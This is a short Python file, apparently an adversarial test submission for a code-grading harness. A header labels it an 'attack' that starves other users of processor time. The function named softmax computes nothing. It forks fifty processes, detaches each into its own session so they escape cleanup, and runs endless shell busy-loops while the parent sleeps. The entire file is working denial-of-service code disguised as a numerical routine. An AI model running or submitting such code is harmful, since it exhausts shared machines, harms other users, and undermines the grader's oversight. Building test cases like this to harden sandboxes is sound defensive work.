# /// attack
# about = "fifty children that compute for ever, each in a session of its own, so that no one else has a processor"
# module = "worked_example"
# base = "reference"
# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
# ///
import os
import time


def softmax(scores, axis=-1):
    for _ in range(50):
        if os.fork() == 0:
            os.setsid()
            os.execv("/bin/sh", ["sh", "-c", "while :; do :; done"])
    time.sleep(1e6)
